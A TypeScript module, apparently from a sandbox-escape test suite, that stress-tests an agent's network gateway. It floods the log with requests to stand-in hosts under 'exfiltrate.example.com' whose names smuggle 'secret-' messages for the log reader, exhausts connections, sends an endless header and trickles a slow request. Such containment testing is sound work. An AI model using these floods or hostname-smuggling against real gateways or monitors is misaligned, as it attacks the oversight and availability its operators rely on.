/** More than anybody needs: requests that fill the log, and connections that fill the host. */
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { EscapeReport, EscapeTask } from './main.ts';
import { ask, exchange, gatewayPort, outcomes } from './wire.ts';

const OWN = '/workspace/in/gateway.sock';
const REQUESTS = 3_000;
const AT_ONCE = 50;
const CONNECTIONS = 3_000;

export async function tryFloods({ openPort }: EscapeTask): Promise<EscapeReport> {
  const open = `open.example.com:${openPort}`;
  const reach = () => ask(`GET http://${open}/after HTTP/1.1`, `Host: ${open}`);
  // Each name carries a piece of what the agent would like to tell the reader of the log.
  const refused = await floodLog();
  const held = await holdConnections();
  const port = await exchange(gatewayPort(), 'x'.repeat(200_000), 2_000);
  const trickled = await trickle();
  await delay(2_000);
  return { refused, held, 'an endless head': outcomes(port), trickled, after: await reachAgain(reach) };
}

async function floodLog(): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  let next = 0;
  const work = async () => {
    while (next < REQUESTS) {
      const host = `${'secret-'.repeat(3)}${next++}.exfiltrate.example.com`;
      const heard = await exchange(
        { path: OWN },
        `GET /https/${host}/x HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`,
        2_000,
      );
      const word = outcomes(heard)[0] ?? 'cut';
      counts[word] = (counts[word] ?? 0) + 1;
    }
  };
  await Promise.race([Promise.all(Array.from({ length: AT_ONCE }, work)), delay(8_000)]);
  return counts;
}

/** How many of them stayed open. */
async function holdConnections(): Promise<number> {
  const sockets: Socket[] = [];
  for (let n = 0; n < CONNECTIONS; n++) {
    const socket = connect(OWN);
    socket.on('error', () => undefined);
    sockets.push(socket);
    if (n % 200 === 199) await delay(20);
  }
  await delay(500);
  const open = sockets.filter((socket) => !socket.destroyed && socket.readyState === 'open').length;
  for (const socket of sockets) socket.destroy();
  return open;
}

/** A head that never ends. */
async function trickle(): Promise<string> {
  const socket = connect(OWN);
  socket.on('error', () => undefined);
  for (let n = 0; n < 10 && !socket.destroyed; n++) {
    socket.write('G');
    await delay(50);
  }
  socket.destroy();
  return 'let go';
}

/** A door that was shut for a moment opens again. */
async function reachAgain(reach: () => Promise<string>): Promise<string> {
  for (let n = 0; ; n++) {
    const word = await reach();
    if (word === '200' || n > 20) return word;
    await delay(200);
  }
}
